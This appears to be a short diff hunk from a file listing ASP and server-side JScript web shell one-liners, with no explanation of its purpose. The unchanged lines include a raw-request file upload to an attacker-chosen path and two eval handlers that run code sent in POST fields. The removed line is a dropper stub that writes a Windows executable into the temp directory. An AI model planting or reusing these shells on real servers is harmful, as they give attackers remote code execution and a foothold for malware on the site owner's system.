@@ -7,4 +7,3 @@
 <% Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes) : st.SaveToFile Request("p"), 2 %>
 <script runat="server" language="jscript">eval( String( Request.Form("x") ) )</script>
 <script runat=server language=jscript>var o = new Object(); o.x = eval; o.x(Request.Form('#') + '')</script>
-<% h = "4D5A90000300000004000000FFFF0000B8000000" : Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.SaveToFile "c:\windows\temp\a.exe", 2 %>
